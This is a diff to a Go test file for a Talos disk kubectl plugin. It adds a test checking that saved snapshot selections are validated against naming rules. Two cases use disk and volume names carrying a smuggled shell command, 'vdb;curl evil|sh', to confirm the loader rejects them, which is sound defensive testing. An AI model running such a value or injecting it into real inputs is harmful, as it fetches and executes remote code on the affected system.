@@ -8,6 +8,7 @@ import (
 	"testing"
 
 	"github.com/talosdisk/kubectl-talosdisk/pkg/disk"
+	"github.com/talosdisk/kubectl-talosdisk/pkg/mounts"
 	"github.com/talosdisk/kubectl-talosdisk/pkg/provisioner"
 	"github.com/talosdisk/kubectl-talosdisk/pkg/snapshot"
 )
@@ -55,6 +56,35 @@ func TestLoadHoldsNodesToTheLimits(t *testing.T) {
 	for i, known := range []bool{false, false, true} {
 		if n := got.Nodes[i]; (n.View.Value != nil) != known || !known && n.View.Problem == "" {
 			t.Errorf("%s: %v, %q", n.Name, n.View.Value != nil, n.View.Problem)
+		}
+	}
+}
+
+// What the configuration calls a volume, and what it chooses, has the names that Talos and the kernel take.
+func TestLoadHoldsSelectionsToTheGrammar(t *testing.T) {
+	long := strings.Repeat("x", 35)
+	for what, c := range map[string]struct {
+		selection snapshot.Selection
+		known     bool
+	}{
+		"a user volume":                     {selection: snapshot.Selection{Selector: mounts.Selector{Kind: "UserVolumeConfig", Name: "data"}, Disks: []string{"vdb"}}, known: true},
+		"a label longer than a partition's": {selection: snapshot.Selection{Selector: mounts.Selector{Kind: "SwapVolumeConfig", Name: long}}},
+		"an existing volume":                {selection: snapshot.Selection{Selector: mounts.Selector{Kind: "ExistingVolumeConfig", Name: long}, Volumes: []string{"vdb1", "dm-0"}}, known: true},
+		"a name that is no directory":       {selection: snapshot.Selection{Selector: mounts.Selector{Kind: "ExistingVolumeConfig", Name: "a/b"}}},
+		"no disk":                           {selection: snapshot.Selection{Selector: mounts.Selector{Kind: "UserVolumeConfig", Name: "data"}, Disks: []string{"vdb;curl evil|sh"}}},
+		"no volume":                         {selection: snapshot.Selection{Selector: mounts.Selector{Kind: "ExistingVolumeConfig", Name: "data"}, Volumes: []string{"vdb1;curl evil|sh"}}},
+	} {
+		s := &snapshot.Snapshot{Nodes: []snapshot.Node{{Name: "w-1", Selections: snapshot.Read([]snapshot.Selection{c.selection})}}}
+		var file bytes.Buffer
+		if err := snapshot.Save(&file, s); err != nil {
+			t.Fatal(err)
+		}
+		got, err := snapshot.Load(&file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if n := got.Nodes[0]; (n.Selections.Value != nil) != c.known || !c.known && n.Selections.Problem == "" {
+			t.Errorf("%s: %+v", what, n.Selections)
 		}
 	}
 }
